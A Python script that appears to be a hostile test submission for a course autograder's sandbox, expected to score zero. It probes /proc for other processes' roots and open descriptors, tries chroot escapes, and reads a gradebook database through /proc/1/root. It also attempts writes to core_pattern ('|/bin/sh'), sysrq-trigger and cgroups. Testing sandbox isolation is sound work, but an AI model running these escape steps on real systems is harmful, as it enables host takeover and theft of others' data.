"""Goes out through /proc: roots and working directories of others, inherited descriptors.

A descriptor on a directory outside, left open by the server, would be a door.
"""
# from: blank
# expect: score=0

# %% total
import os
from pathlib import Path

for process in sorted(Path("/proc").glob("[0-9]*")):
    for name in ("root", "cwd", "exe"):
        try:
            print(process, name, os.readlink(process / name), os.listdir(process / name)[:30])
        except OSError as error:
            print(process, name, error)
    try:
        for descriptor in os.listdir(process / "fd"):
            link = process / "fd" / descriptor
            print(link, os.readlink(link).split(":[")[0])  # a number could be a hidden one by chance
            try:
                for up in ("", "..", "../..", "../../.."):
                    print(up, os.listdir(link / up))
                inside = os.open("..", os.O_RDONLY, dir_fd=int(descriptor))
                print(os.listdir(inside), os.readlink(f"/proc/self/fd/{inside}"))
                os.chroot(link)
            except OSError as error:
                print(error)
    except OSError as error:
        print(process, error)
for path in ("/proc/1/root/@COURSE@/gradebook.db", "/proc/self/root/@COURSE@/gradebook.db"):
    try:
        print(open(path, errors="replace").read()[:10_000])
    except OSError as error:
        print(error)
for path, text in {"/proc/sys/kernel/core_pattern": "|/bin/sh", "/proc/self/oom_score_adj": "-1000",
                   "/proc/sysrq-trigger": "", "/sys/fs/cgroup/cgroup.procs": str(os.getpid())}.items():  # fmt: skip
    try:
        with open(path, "w") as file:
            file.write(text)
        print("wrote", path)
    except OSError as error:
        print(path, error)
